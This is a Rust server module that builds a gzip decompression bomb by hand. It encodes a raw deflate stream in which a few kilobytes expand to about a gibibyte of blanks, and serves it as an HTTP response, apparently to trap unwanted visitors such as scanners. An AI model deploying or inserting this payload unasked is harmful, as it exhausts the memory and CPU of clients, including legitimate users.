//! An answer that is small, and huge when it is unpacked.

use std::io;

use super::request::Visitor;

/// How much it is when it is unpacked.
const UNPACKED: usize = 1024 * 1024 * 1024;
/// How much one copy of what came before adds.
const COPY: usize = 258;

/// Sends a GiB of blanks, which is a valid beginning of an answer.
pub(super) fn send_bomb(visitor: &mut Visitor) -> io::Result<()> {
    visitor.send(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n\
         Transfer-Encoding: chunked\r\n\r\n",
    )?;
    visitor.chunk([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255])?;
    let mut bits = Bits::default();
    // The last block, with the codes that everybody knows: a blank, and then copies of it.
    bits.push(&[1, 1, 0]);
    bits.push_code(0b0011_0000 + u16::from(b' '), 8);
    let mut n_copies = UNPACKED / COPY;
    while n_copies > 0 {
        // A multiple of 8, so that what is left of a byte stays the same.
        let n_now = n_copies.min(8 * 1024);
        for _ in 0..n_now {
            // 258 bytes, from one byte ago.
            bits.push_code(0b1100_0101, 8);
            bits.push_code(0, 5);
        }
        visitor.chunk(bits.take_bytes())?;
        n_copies -= n_now;
    }
    visitor.chunk("")
}

/// Bits that become bytes, the lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    last: u8,
    n_last: u32,
}

impl Bits {
    fn push(&mut self, bits: &[u8]) {
        for bit in bits {
            self.last |= bit << self.n_last;
            self.n_last += 1;
            if self.n_last == 8 {
                self.bytes.push(std::mem::take(&mut self.last));
                self.n_last = 0;
            }
        }
    }

    /// Codes begin with their highest bit.
    fn push_code(&mut self, code: u16, n_bits: u32) {
        for at in (0..n_bits).rev() {
            self.push(&[u8::from(code >> at & 1 == 1)]);
        }
    }

    /// The bytes that are complete.
    fn take_bytes(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.bytes)
    }
}
